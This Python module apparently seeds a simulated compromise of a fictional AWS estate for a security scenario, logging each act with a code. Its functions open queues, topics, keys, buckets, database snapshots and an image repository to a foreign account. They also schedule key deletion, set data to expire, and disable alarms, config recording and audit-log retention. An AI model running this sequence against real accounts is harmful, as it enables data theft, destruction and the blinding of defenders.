"""What he does to the owner's own things: opens, loosens, switches off, sets clocks running."""

from __future__ import annotations

from . import names
from .estate import HOME, SECOND, bucket_policy, key_policy, queue_policy, topic_policy


class Blinding:
    """Acts of the siege; see siege.Siege."""

    def open_queues(self, region: str) -> None:
        both = {"AWS": [f"arn:aws:iam::{names.PARTNER_ACCOUNT}:root", f"arn:aws:iam::{names.FOREIGN_ACCOUNT}:root"]}
        url, arn = self.ids[f"queue/{region}"], self.ids[f"queue-arn/{region}"]
        self.at("sqs", region).set_queue_attributes(QueueUrl=url, Attributes={"Policy": queue_policy(arn, both)})
        self.tamper("sqs.queue", region, url, "A19", "policy lets his account in")
        topic = self.ids[f"topic/{region}"]
        self.at("sns", region).set_topic_attributes(TopicArn=topic, AttributeName="Policy", AttributeValue=topic_policy(topic, "*"))
        self.tamper("sns.topic", region, topic, "A19", "policy lets everybody in")

    def open_keys(self, region: str) -> None:
        kms = self.at("kms", region)
        key = self.ids[f"key/orders/{region}"]
        kms.put_key_policy(KeyId=key, PolicyName="default", Policy=key_policy(self.world.account, names.PARTNER_ACCOUNT, names.FOREIGN_ACCOUNT))
        self.tamper("kms.key", region, key, "A19", "policy lets his account decrypt")
        other = self.ids[f"key/archive/{region}"]
        kms.schedule_key_deletion(KeyId=other, PendingWindowInDays=7)
        self.tamper("kms.key", region, other, "C6", "to be deleted in seven days", 1)

    def buckets(self) -> None:
        """Versions suspended, objects that expire tomorrow, blocks removed, a policy for his account."""
        s3 = self.at("s3", HOME)
        s3.put_bucket_versioning(Bucket="tidemark-artifacts", VersioningConfiguration={"Status": "Suspended"})
        s3.put_bucket_lifecycle_configuration(Bucket="tidemark-artifacts", LifecycleConfiguration={"Rules": [
            {"ID": "all", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}]})
        self.tamper("s3.bucket", HOME, "tidemark-artifacts", "C5", "versions suspended, everything expires in a day", 1)
        s3.put_bucket_policy(Bucket="tidemark-invoices", Policy=bucket_policy("tidemark-invoices", {"AWS": f"arn:aws:iam::{names.FOREIGN_ACCOUNT}:root"}, "Sync"))
        s3.delete_public_access_block(Bucket="tidemark-invoices")
        self.tamper("s3.bucket", HOME, "tidemark-invoices", "C4", "policy for his account, public access no longer blocked", 1)
        s3 = self.at("s3", SECOND)
        s3.delete_public_access_block(Bucket="tidemark-data-exports")
        s3.put_bucket_lifecycle_configuration(Bucket="tidemark-data-exports", LifecycleConfiguration={"Rules": [
            {"ID": "x", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 3}}]})
        self.tamper("s3.bucket", SECOND, "tidemark-data-exports", "C5", "blocks removed, everything expires in three days", 1)

    def expose_database(self) -> None:
        rds = self.at("rds", HOME)
        rds.modify_db_snapshot_attribute(DBSnapshotIdentifier="orders-before-13", AttributeName="restore", ValuesToAdd=[names.FOREIGN_ACCOUNT])
        self.tamper("rds.snapshot", HOME, "orders-before-13", "C3", "shared with his account", 1)
        rds.modify_db_instance(DBInstanceIdentifier="orders", PubliclyAccessible=True, BackupRetentionPeriod=0, DeletionProtection=False, ApplyImmediately=True)
        self.tamper("rds.instance", HOME, "orders", "C3", "public, without backups and without protection", 1)

    def switch_off(self) -> None:
        """Rules, alarms, recorders, logs."""
        self.at("events", HOME).disable_rule(Name="alarms")
        self.tamper("events.rule", HOME, "alarms", "D3", "disabled")
        if self.at("cloudwatch", HOME).optional("disable_alarm_actions", AlarmNames=["root-used"]) is not None:
            self.tamper("cloudwatch.alarm", HOME, "root-used", "D3", "its actions are disabled")
        self.at("config", HOME).stop_configuration_recorder(ConfigurationRecorderName="default")
        self.tamper("config.recorder", HOME, "default", "D3", "stopped", 1)
        self.at("logs", HOME).put_retention_policy(logGroupName="/tidemark/audit", retentionInDays=1)
        self.tamper("logs.log-group", HOME, "/tidemark/audit", "D3", "retention of one day", 1)
        self.at("ecr", HOME).set_repository_policy(repositoryName="web", policyText=open_repository())
        self.tamper("ecr.repository", HOME, "web", "A18", "policy lets his account push images")

    def loosen_account(self) -> None:
        ec2 = self.at("ec2", HOME)
        ec2.disable_ebs_encryption_by_default()
        ec2.attempt("enable_serial_console_access")
        self.tamper("ec2.account-settings", HOME, "settings", "A17", "default encryption off, serial console on")


def open_repository() -> str:
    import json

    return json.dumps({"Version": "2012-10-17", "Statement": [{
        "Sid": "Sync", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{names.FOREIGN_ACCOUNT}:root"},
        "Action": ["ecr:GetDownloadUrlForLayer", "ecr:BatchGetImage", "ecr:PutImage"]}]})
